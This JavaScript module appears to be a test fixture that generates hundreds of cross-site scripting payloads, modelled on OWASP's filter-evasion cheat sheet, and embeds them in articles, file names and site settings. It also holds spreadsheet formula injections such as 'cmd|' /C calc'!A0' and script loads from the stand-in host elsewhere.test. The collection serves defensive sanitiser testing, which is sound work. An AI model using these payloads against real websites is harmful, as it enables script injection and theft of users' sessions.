// Ways to get code into a page: one for each trick of OWASP's list of evasions of filters
// (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), and those
// that parsers of HTML have become known for since. Each calls `ran` with its number, or asks for its
// number on another host.

/** What answers there counts as much as code that runs: it could be code. */
export const ELSEWHERE = "https://elsewhere.test";

/** An address that is there and is no picture, so that `onerror` is heard and no link is dead. */
const NO_PICTURE = "/";

const references = (text, write) => [...text].map((letter) => write(letter.codePointAt(0))).join("");
const decimal = (text) => references(text, (code) => `&#${code};`);
const hex = (text) => references(text, (code) => `&#x${code.toString(16)};`);
const base64 = (text) => Buffer.from(text).toString("base64");
const svg = (run) => `<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="${run}"/>`;

/** Addresses that are code, and their disguises; none holds a double quote. */
const ADDRESSES = [
  ["plain", (run) => `javascript:${run}`],
  ["in odd case", (run) => `jAvAsCrIpT:${run}`],
  ["with spaces around", (run) => `  javascript:${run}  `],
  ["in decimal references", (run) => decimal(`javascript:${run}`)],
  ["in padded references without an end", (run) => references("javascript:", (code) => `&#${String(code).padStart(7, "0")}`) + run],
  ["in hexadecimal references", (run) => hex(`javascript:${run}`)],
  ["with a colon by name", (run) => `javascript&colon;${run}`],
  ["with brackets by name", (run) => `javascript:${run.replace("(", "&lpar;").replace(")", "&rpar;")}`],
  ["with a tab by name", (run) => `java&Tab;script:${run}`],
  ["with a line end by name", (run) => `java&NewLine;script:${run}`],
  ["with a tab inside", (run) => `java\tscript:${run}`],
  ["with a carriage return by number", (run) => `java&#x0D;script:${run}`],
  ["with a line end after each letter", (run) => `${[..."javascript:"].join("\n")}${run}`],
  ["behind a control character", (run) => `\u0001javascript:${run}`],
  ["behind control characters by number", (run) => `&#1;&#14;&#31; javascript:${run}`],
  ["behind a no-break space", (run) => `&nbsp;javascript:${run}`],
  ["behind a byte order mark", (run) => `&#xFEFF;javascript:${run}`],
  ["behind a line separator", (run) => `&#8232;javascript:${run}`],
  ["with a null inside", (run) => `java\0script:${run}`],
  ["with a null by number", (run) => `java&#0;script:${run}`],
  ["with a soft hyphen inside", (run) => `java&shy;script:${run}`],
  ["like an address with a host", (run) => `javascript://elsewhere.test/%0A${run}`],
  ["with code in per cent", (run) => `javascript:${run.replace("r", "%72")}`],
  ["with the colon in per cent", (run) => `javascript%3A${run}`],
  ["with a backslash in front", (run) => `\\javascript:${run}`],
  ["behind another scheme", (run) => `feed:javascript:${run}`],
  ["in the language vbscript", (run) => `vbscript:${run}`],
  ["a page as data", (run) => `data:text/html,<script>${run}</script>`],
  ["a page as packed data", (run) => `data:text/html;base64,${base64(`<script>${run}</script>`)}`],
  ["a page as data of no kind", (run) => `data:;,<script>${run}</script>`],
  ["a drawing as data", (run) => `data:image/svg+xml;base64,${base64(svg(run))}`],
  ["a document of XML as data", (run) => `data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>${run}</script>`],
];

const DATA = ADDRESSES.filter(([name]) => name.includes("data"));

/** Where HTML takes an address. */
const PLACES = [
  ["a link to a new window", (address) => `<a target="_blank" href="${address}">link</a>`],
  ["a link without quotes", (address) => `<a href=${address}>link</a>`],
  ["a link after a far one", (address) => `<a href="${address}" href="https://example.org/">link</a>`],
  ["an area of a map", (address) => `<map name="m"><area href="${address}" coords="0,0,9,9"></map><img src="${NO_PICTURE}" alt="" usemap="#m">`],
  ["a picture", (address) => `<img src="${address}" alt="">`],
  ["older names of a picture", (address) => `<img dynsrc="${address}" lowsrc="${address}"><image src="${address}"><bgsound src="${address}">`],
  ["a frame", (address) => `<iframe src="${address}"></iframe>`],
  ["a set of frames", (address) => `<frameset><frame src="${address}"></frameset>`],
  ["a form", (address) => `<form action="${address}"><input type="submit"></form>`],
  ["a button", (address) => `<form><button formaction="${address}">go</button></form>`],
  ["an input", (address) => `<form><input type="image" src="${NO_PICTURE}" formaction="${address}"></form>`],
  ["a picture to press", (address) => `<input type="image" src="${address}">`],
  ["an object", (address) => `<object data="${address}"></object>`],
  ["an embedded object", (address) => `<embed src="${address}">`],
  ["sound and film", (address) => `<audio src="${address}"></audio><video poster="${address}"><source src="${address}"><track src="${address}"></video>`],
  ["the ground of a page", (address) => `<body background="${address}">`],
  ["the ground of a table", (address) => `<table background="${address}"><tr><td background="${address}">x</table>`],
  ["a style sheet", (address) => `<link rel="stylesheet" href="${address}">`],
  ["the base of addresses", (address) => `<base href="${address}//"><a href="./?">link</a>`],
  ["a link in a drawing", (address) => `<svg><a href="${address}"><text y="20">link</text></a></svg>`],
  ["a link in a drawing by its old name", (address) => `<svg><a xlink:href="${address}"><text y="20">link</text></a></svg>`],
  ["a link in a drawing by a name of its own", (address) => `<svg xmlns:x="http://www.w3.org/1999/xlink"><a x:href="${address}"><text y="20">link</text></a></svg>`],
  ["a copy in a drawing", (address) => `<svg><use href="${address}#x"/></svg>`],
  ["a picture in a drawing", (address) => `<svg><image href="${address}" width="9" height="9"/></svg>`],
  ["a link that a drawing sets", (address) => `<svg><a><set attributeName="href" to="${address}"/><text y="20">link</text></a></svg>`],
  ["a link that a drawing moves", (address) => `<svg><a><animate attributeName="href" values="#;${address}" dur="0.01s" fill="freeze"/><text y="20">link</text></a></svg>`],
  ["a link that a drawing moves from afar", (address) => `<svg><animate xlink:href="#m" attributeName="href" from="${address}" to="#" dur="99s"/><a id="m"><text y="20">link</text></a></svg>`],
  ["a link in a formula", (address) => `<math><maction actiontype="statusline" href="${address}" xlink:href="${address}">x</maction></math>`],
  ["where the page goes", (address) => `<meta http-equiv="refresh" content="0;url=${address}">`],
  ["where the page goes, at second try", (address) => `<meta http-equiv="refresh" content="0; URL=https://;URL=${address}">`],
  ["an address to be told", (address, far) => `<a href="#" ping="${far}">link</a>`],
];

/** Scripts. */
const SCRIPTS = [
  ["a script", (run) => `<script>${run}</script>`],
  ["a script in odd case", (run) => `<ScRiPt>${run}</sCrIpT>`],
  ["a script from elsewhere", (run, far) => `<script src="${far}"></script>`],
  ["a script from elsewhere without scheme, quotes and end", (run, far) => `<script src=${far.replace("https:", "")}?<b>`],
  ["a module", (run) => `<script type="module">${run}</script>`],
  ["a script with a slash behind its name", (run) => `<script/x>${run}</script>`],
  ["a script with a bracket in a value", (run, far) => `<script a=">" '' b='>' src="${far}"></script>`],
  ["a script with more brackets", (run) => `<<script>${run};//<</script>`],
  ["a script with a null in its name", (run) => `<scr\0ipt>${run}</scr\0ipt>`],
  ["a script that never ends", (run) => `<script>${run}//`],
  ["a script with a long end", (run) => `<script>${run}</script\t\nx="y">`],
  ["a script in a script", (run) => `<scr<script>ipt>${run}</scr</script>ipt>`],
  ["a script without brackets for a call", (run) => `<script>${run.replace("(", "`").replace(")", "`")}</script>`],
  ["a script behind the end of one", (run) => `\\";${run};//</script><script>${run}</script>`],
  ["a script behind the end of a title", (run) => `</title></style></textarea></noscript></select><script>${run}</script>`],
  ["a script as a value", (run) => `<img """><script>${run}</script>">`],
  ["a script in a drawing", (run) => `<svg><script>${run}</script></svg>`],
  ["a script in a drawing, in references", (run) => `<svg><script>${decimal(run)}</script></svg>`],
  ["a script in a drawing, as data", (run) => `<svg><script href="data:text/javascript,${run}"/></svg>`],
  ["a script of a namespace", (run) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`],
  ["a script in per cent", (run) => `%3Cscript%3E${run}%3C/script%3E`],
  ["a script in references", (run) => `&lt;script&gt;${run}&lt;/script&gt;`],
  ["a script in references of references", (run) => `&amp;lt;script&amp;gt;${run}&amp;lt;/script&amp;gt;`],
  ["a script in escapes", (run) => `\\u003cscript\\u003e${run}\\u003c/script\\u003e \\x3cscript\\x3e${run}`],
  ["expressions of templates", (run) => `{{ ${run} }} {% ${run} %} \${${run}} #{${run}} <%= ${run} %>`],
];

const image = `<img src="${NO_PICTURE}"`;

/** Handlers of events. */
const HANDLERS = [
  ["onerror", (run) => `${image} onerror="${run}">`],
  ["onerror without quotes", (run) => `<img src=${NO_PICTURE}? onerror=${run}>`],
  ["onerror with grave accents", (run) => `<img src=${NO_PICTURE}? onerror=\`\${${run}}\`>`],
  ["onerror in odd case, with spaces", (run) => `${image} oNeRrOr = "${run}">`],
  ["onerror behind a slash", (run) => `<img/src="${NO_PICTURE}"/onerror=${run}>`],
  ["onerror behind no space", (run) => `${image}onerror="${run}">`],
  ["onerror behind a form feed", (run) => `<img\fsrc="${NO_PICTURE}"\fonerror=${run}>`],
  ["onerror behind a line end", (run) => `<img\nsrc="${NO_PICTURE}"\nonerror\n= "${run}">`],
  ["onerror behind a control character", (run) => `<img src="${NO_PICTURE}" \u0001onerror="${run}" onerror\u000b="${run}">`],
  ["onerror in references", (run) => `${image} onerror="${decimal(run)}">`],
  ["onerror behind a broken value", (run) => `${image} a=b"c onerror=${run}>`],
  ["onerror twice", (run) => `${image} onerror="" onerror="${run}" onerror="${run}">`],
  ["onerror behind signs", (run) => `${image} !#$%&()*~+-_.,:;?@[|]^\`="" onerror=${run}>`],
  ["onerror in a tag that never ends", (run) => `<img src="${NO_PICTURE}" onerror="${run}"`],
  ["onerror in a tag that another one ends", (run) => `<img src="${NO_PICTURE}" onerror="${run}" <b`],
  ["onerror of a lazy picture", (run) => `<img loading="lazy" srcset="${NO_PICTURE} 1x" onerror="${run}">`],
  ["onerror of sound and film", (run) => `<audio src="${NO_PICTURE}" onerror="${run}"></audio><video><source src="${NO_PICTURE}" onerror="${run}"></video>`],
  ["onerror of a picture in a drawing", (run) => `<svg><image href="${NO_PICTURE}" onerror="${run}"/></svg>`],
  ["onload of a page", (run) => `<body onload="${run}" onpageshow="${run}">`],
  ["onload of a page behind signs", (run) => `<body onload!#$%&()*~+-_.,:;?@[/|]^\`=${run}>`],
  ["onload of a drawing", (run) => `<svg onload="${run}"></svg>`],
  ["onload of a frame", (run) => `<iframe onload="${run}"></iframe>`],
  ["onfocus that takes the focus", (run) => `<input autofocus onfocus="${run}">`],
  ["onfocus of an element of its own", (run) => `<x-y tabindex="0" autofocus onfocus="${run}">x</x-y>`],
  ["ontoggle", (run) => `<details open ontoggle="${run}"><summary>x</summary></details>`],
  ["onbegin", (run) => `<svg><animate attributeName="x" dur="1s" onbegin="${run}"/></svg>`],
  ["a handler that a drawing sets", (run) => `<svg><rect width="9" height="9"><set attributeName="onclick" to="${run}"/></rect></svg>`],
  ["onstart of a marquee", (run) => `<marquee onstart="${run}">x</marquee>`],
  ["onanimationstart", (run) => `<style>@keyframes k { to { color: red } }</style><b style="animation: k 1s" onanimationstart="${run}">x</b>`],
  ["onmouseover", (run) => `<b onmouseover="${run}">x</b>`],
  ["onpointerenter of a formula", (run) => `<math><mi onpointerenter="${run}">x</mi></math>`],
  ["onclick of an unknown element", (run) => `<xss onclick="${run}">x</xss>`],
  ["onclick by a key", (run) => `<link rel="canonical" accesskey="x" onclick="${run}">`],
  ["oninput in a form", (run) => `<form oninput="${run}"><input name="attributes"><input name="parentNode"></form>`],
];

/** Styles; those that ran code did so in browsers of old, so what they load counts. */
const STYLES = [
  ["an expression", (run) => `<b style="width: expression(${run})">x</b>`],
  ["an expression with remarks", (run) => `<b style="xss:expr/*x*/ession(${run})">x</b>`],
  ["a ground of code in escapes", (run) => `<b style="background-image:\\0075\\0072\\006C\\0028'javascript:${run}'\\0029">x</b>`],
  ["a ground from elsewhere", (run, far) => `<b style="background: url(${far})">x</b>`],
  ["a binding", (run, far) => `<b style="-moz-binding: url(${far}); behavior: url(${far})">x</b>`],
  ["a style sheet inside", (run, far) => `<style>* { background: url("${far}") } li { list-style-image: url("javascript:${run}") }</style>`],
  ["a style sheet that takes in another", (run, far) => `<style>@import "${far}";</style>`],
  ["a style sheet in escapes", (run, far) => `<style>@\\69mport '${far}';</style>`],
  ["a style sheet from elsewhere", (run, far) => `<link rel="stylesheet" href="${far}">`],
  ["a style sheet in a drawing", (run, far) => `<svg><style>@import "${far}";</style></svg>`],
  ["a ground in a drawing", (run, far) => `<svg><rect width="9" height="9" fill="url(${far})" filter="url(${far}#f)" mask="url(${far}#m)"/></svg>`],
];

/** A tag that may stand in a value, whatever the quotes. */
const failing = (run) => `<img src=${NO_PICTURE} onerror=${run}>`;

/** What looks like a remark, a declaration or the work of a server. */
const REMARKS = [
  ["a remark for one browser", (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]-->`],
  ["a remark that other browsers see", (run) => `<!--[if !IE]><!--><script>${run}</script><!--<![endif]-->`],
  ["a remark that ends at once", (run) => `<!--><script>${run}</script>-->`],
  ["a remark that ends at once, with a hyphen", (run) => `<!---><script>${run}</script>-->`],
  ["a remark that ends with a sign", (run) => `<!-- --!><script>${run}</script> -->`],
  ["a remark that never ends", (run) => `<!-- <script>${run}</script>`],
  ["a script behind two remarks", (run) => `<script><!--<script></script>--></script><script>${run}</script>`],
  ["CDATA", (run) => `<![CDATA[<script>${run}</script>]]>`],
  ["CDATA that ends at once", (run) => `<![CDATA[>${failing(run)}]]>`],
  ["CDATA in a drawing", (run) => `<svg><![CDATA[><image xlink:href="]]><img src=/ onerror=${run}//"></svg>`],
  ["CDATA that cuts a word", (run) => `<xml id="i"><x><c><![CDATA[<img src="javas]]><![CDATA[cript:${run}">]]></c></x></xml><b datasrc="#i" datafld="c" dataformatas="html"></b>`],
  ["an entity", (run) => `<!DOCTYPE x [<!ENTITY e "<script>${run}</script>">]><x>&e;</x>`],
  ["an instruction", (run) => `<? a="><script>${run}</script>">`],
  ["an end without a name", (run) => `</ a="><script>${run}</script>">`],
  ["a mark of a server", (run) => `<% a><x a="%><script>${run}</script>">`],
  ["PHP", (run) => `<?php echo('<scr'); echo('ipt>${run}</script>'); ?>`],
  ["SSI", (run) => `<!--#exec cmd="/bin/echo '<SCR'"--><!--#exec cmd="/bin/echo 'IPT>${run}</SCRIPT>'"-->`],
  ["HTML+TIME", (run) => `<t:set attributeName="innerHTML" to="<script defer>${run}</script>">`],
];

const nested = (name) => [`the end of <${name}> in a value`, (run) => `<${name}><b title="</${name}>${failing(run)}">x</b></${name}>`];

/** What one parser reads as text and another one as tags. */
const MUTATIONS = [
  ...["noscript", "textarea", "title", "xmp", "noembed", "noframes", "iframe", "style", "script"].map(nested),
  ["the end of <style> in a value, in a drawing", (run) => `<svg><style><b title="</style>${failing(run)}"></style></svg>`],
  ["the end of <title> in a value, in a drawing", (run) => `<svg><title><b title="</title>${failing(run)}"></title></svg>`],
  ["the end of <style> in a value, behind a paragraph in a drawing", (run) => `<svg></p><style><a id="</style>${failing(run)}"></svg>`],
  ["a style in a glyph in a formula", (run) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=/ onerror=${run}&gt;">`],
  ["a remark in a style in a formula", (run) => `<math><mtext><mglyph><style><math><table id="</table>"><!--</style>${failing(run)}-->`],
  ["forms in a formula", (run) => `<form><math><mtext></form><form><mglyph><style></math>${failing(run)}`],
  ["a formula in words in a drawing", (run) => `<svg><desc><math><mi><style><!--</style>${failing(run)}--></math></desc></svg>`],
  ["a drawing as a place for HTML", (run) => `<svg><foreignObject>${failing(run)}</foreignObject></svg>`],
  ["a page in a value", (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`],
  ["a page in a value, in references", (run) => `<iframe srcdoc="&lt;img src=/ onerror=parent.${run}&gt;"></iframe>`],
  ["a template", (run) => `<template>${failing(run)}</template>`],
  ["a template as a shadow", (run) => `<div><template shadowrootmode="open">${failing(run)}</template></div>`],
  ...["textarea", "noscript", "title", "xmp"].map((name) => [`<${name}> in a drawing`, (run) => `<svg><${name}>${failing(run)}</${name}></svg>`]),
  ...["textarea", "noscript"].map((name) => [`<${name}> in a formula`, (run) => `<math><${name}>${failing(run)}</${name}></math>`]),
  ["plain text", (run) => `<plaintext>${failing(run)}`],
  ["a value that is HTML once decoded", (run) => `<b title="&quot;&gt;&lt;img src=/ onerror=${run}&gt;">x</b>`],
];

/** Names that scripts of the page could take for their own; sets of letters; what a head holds. */
const OTHERS = [
  ["a form in place of the document", (run) => `<form id="document" name="documentElement"><input name="querySelector" id="querySelectorAll"></form><a href="javascript:${run}" id="location">link</a>`],
  ["pictures in place of functions", (run) => `<img name="getElementById" src="${NO_PICTURE}" alt=""><img name="body" src="${NO_PICTURE}" onerror="${run}">`],
  ["links in place of settings", (run) => `<a id="strings"></a><a id="strings" name="base" data-status href="javascript:${run}">link</a>`],
  ["a part that the page's scripts look for", (run) => `<template data-fill data-template><img src="${NO_PICTURE}" onerror="${run}"></template><div data-base="javascript:${run}" data-copy-source="body" data-status>x</div>`],
  ["UTF-7", (run) => `<meta charset="utf-7">+ADw-script+AD4-${run}+ADw-/script+AD4-`],
  ["seven bits", (run) => `\u00bcscript\u00be${run}\u00bc/script\u00be`],
  ["another set of letters", (run) => `<meta charset="iso-2022-jp"><img alt="\u001b$@" src="${NO_PICTURE}"> \u001b(B<b title=" onerror=${run} ">`],
  ["the base of addresses elsewhere", (run, far) => `<base href="${far}/"><img src="./?" alt="">`],
  ["a page elsewhere", (run, far) => `<meta http-equiv="refresh" content="0;url=${far}">`],
  ["a picture from elsewhere", (run, far) => `<img src="${far}" alt="">`],
  ["a picture from elsewhere, by backslashes", (run, far) => `<img src="${far.replace("https://", "\\\\")}" alt="">`],
  ["a picture from elsewhere, with a tab", (run, far) => `<img src="${far.replace("https:", "ht&Tab;tps:")}" alt="">`],
  ["a picture from elsewhere, among others", (run, far) => `<picture><source srcset="/favicon.svg 3x, ${far} 1x"><img src="/favicon.svg" alt=""></picture>`],
  ["a film from elsewhere", (run, far) => `<video poster="${far}"></video>`],
  ["a picture from elsewhere in a drawing", (run, far) => `<svg><image xlink:href="${far}" width="9" height="9"/></svg>`],
];

const LIST = [
  ...SCRIPTS,
  ...ADDRESSES.map(([name, write]) => [`a link: ${name}`, (run) => `<a href="${write(run)}">link</a>`]),
  ...DATA.map(([name, write]) => [`a frame: ${name}`, (run) => `<object data="${write(run)}"></object><iframe src="${write(run)}"></iframe>`]),
  ...PLACES.map(([name, write]) => [`an address: ${name}`, (run, far) => write(`javascript:${run}`, far)]),
  ...HANDLERS,
  ...STYLES,
  ...REMARKS,
  ...MUTATIONS,
  ...OTHERS,
];

/** Each as `{name, html}`, in the order of their numbers. */
export const ATTACKS = LIST.map(([name, write], number) => ({
  name,
  html: write(`ran(${number})`, `${ELSEWHERE}/${number}`),
}));

/** Addresses for places of which each takes one, as `{name, address}`; their numbers go on. */
export const LINKS = ADDRESSES.map(([name, write], number) => ({
  name: `an address in Markdown: ${name}`,
  address: write(`ran(${ATTACKS.length + number})`),
}));

const out = `ran(${ATTACKS.length + LINKS.length})`;

/** All ways out of a text into the HTML, the XML, the script or the template around it, in one line. */
export const WAYS_OUT = [
  `'"><img src=${NO_PICTURE} onerror=${out}>`,
  `</title></textarea></style></noscript></script><script>${out}</script>`,
  `]]>--><svg onload=${out}>`,
  `\\";${out};//\` \${${out}} {{ ${out} }} {% ${out} %} &lt;img src=/ onerror=${out}&gt; \u2028${out}`,
].join(" ");

/** What each number stands for. */
export const NAMES = [...ATTACKS.map(({ name }) => name), ...LINKS.map(({ name }) => name), "the ways out of a text"];

/** Names of files that are no names of addresses. */
const FILES = [`x" onerror=${out} x`, `'><svg onload=${out}>`, `javascript:${out}`, `%22%3E%3Csvg onload=${out}%3E`, `&quot; onerror=${out} x`];

/** What a spreadsheet would take for a formula, and a calendar or a list for a line of its own. */
export const FORMULAS = [
  `=HYPERLINK("${ELSEWHERE}";"press")`,
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=2+2",
  "end\r\nATTENDEE:mailto:x@elsewhere.test\r\nBEGIN:VALARM",
  "end\nATTENDEE:mailto:x@elsewhere.test",
  "end\u2028key: value\u0085- item",
];

/** A word that every text has, so that search finds them all. */
export const WORD = "ordeal";

const DRAWING = '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"/>';

/** A file with fields. */
export function text(fields, body) {
  return `---\n${yaml(fields)}---\n${body}\n`;
}

/** JSON is YAML. */
export function yaml(fields) {
  return Object.entries(fields).map(([key, value]) => `${key}: ${JSON.stringify(value)}\n`).join("");
}

/** A file of an article with its path. */
export function article(name, body, fields = {}) {
  return [`attacks/${name}.md`, text({ title: `The ${name}`, description: "Words.", date: "2026-01-02", ...fields }, body)];
}

/** Ways to write each address in Markdown, and each attack as the language of a listing. */
export function markdown() {
  const ways = (address, number) => [
    `[link](<${address}> "title")`,
    `![picture](<${address}>)`,
    `<${address}>`,
    `[link][${number}]\n\n[${number}]: <${address}>`,
  ];
  const links = LINKS.flatMap(({ address }, number) => ways(address, number));
  const listings = ATTACKS.map(({ html }) => `~~~~~ ${html.replaceAll("\n", " ")}\ncode\n~~~~~`);
  return new Map([...links, ...listings].map((body, number) => [`text-${number}`, body]));
}

/** Articles and pictures whose names are attacks. */
export function files() {
  const shown = FILES.map((name) => `![${literal(name)}](<${encodeURIComponent(name)}.svg>)`);
  return [
    ...FILES.map((name) => [`attacks/${name}.svg`, DRAWING]),
    ...FILES.map((name) => [`attacks/${name}.md`, article("", "Here.")[1]]),
    article("pictures", shown.join("\n")),
  ];
}

/** Settings whose every word is an attack. */
export function settings() {
  const [title, description, label, example] = Array(4).fill(WAYS_OUT);
  return {
    title,
    description,
    notice: WAYS_OUT,
    offline: true,
    stages: { one: { label } },
    channels: { email: { label } },
    placeholders: { role: { label, example }, way: { label, kind: "choice", options: [WAYS_OUT, "other"] } },
    sources: { book: { title, author: WAYS_OUT } },
    journeys: { path: { label, description, begin: "quiet" } },
    pages: ["questions", "glossary"],
  };
}

/** Articles and pages whose every word is an attack; many attacks stand in each. */
export function texts() {
  const many = chunks(ATTACKS.map(({ html }) => html), 40).map((attacks) => [attacks.join(" "), attacks[0]]);
  const all = [[WAYS_OUT, WAYS_OUT], ...many, ...FORMULAS.map((formula) => [formula, FORMULAS[0]])];
  const page = (body, fields) => text({ title: WAYS_OUT, description: WAYS_OUT, ...fields }, body);
  const pairs = (write) => all.map(([words]) => write(literal(words))).join("\n\n");
  return [
    ["attacks/picture.svg", DRAWING],
    wordsEverywhere("quiet", "Quiet", "quiet", {}),
    ...all.map(([words, tag], number) => wordsEverywhere(`words-${number}`, words, tag, { related: [{ quiet: words }] })),
    ["questions.md", page(pairs((one) => `## ${one}\n\n${one}`), { questions: true })],
    ["glossary.md", page(pairs((one) => `${one}\n: ${one}`))],
    ["start/one.md", page(literal(WAYS_OUT), { send: "quiet/note", wait: "quiet" })],
  ];
}

/** An article with the words in every place for a text; the tag, which names a file, is short. */
function wordsEverywhere(name, words, tag, fields) {
  const own = literal(words);
  const typed = words.replace(/[[\]]/g, "\\$&");
  const head = { title: words, id: "note", channel: "email", to: words, tone: "warm", subject: `${typed} [role]` };
  const terms = { authors: [words], tags: [tag], stages: ["one"], sources: ["book"] };
  return article(name, [
    `## ${own}`,
    `${own} ![${own}](picture.svg "${own}") [${own}](quiet.md "${own}")[^1]`,
    `[^1]: ${own}`,
    `> [!NOTE]\n> ${own}`,
    `| ${own} |\n|---|\n| ${own} |`,
    `- [ ] ${own}`,
    `Term ${own}\n: ${own}`,
    `~~~~~html\n${words}\n~~~~~`,
    `~~~~~template\n${yaml(head)}---\n${typed} [way]\n~~~~~`,
    `~~~~~reminder\n${yaml({ days: 3, title: words, message: "quiet/note" })}~~~~~`,
    `~~~~~compare\n${yaml({ instead: words, say: words })}~~~~~`,
  ].join("\n\n"), { title: `${words} ${WORD}`, description: words, ...terms, ...fields });
}

/** Words that Markdown takes as they are, in one line. */
function literal(words) {
  return words.replace(/[!-/:-@[-`{-~]/g, "\\$&").replace(/[\r\n]+/g, " ").trim();
}

export function chunks(list, size) {
  return Array.from({ length: Math.ceil(list.length / size) }, (_, at) => list.slice(at * size, (at + 1) * size));
}
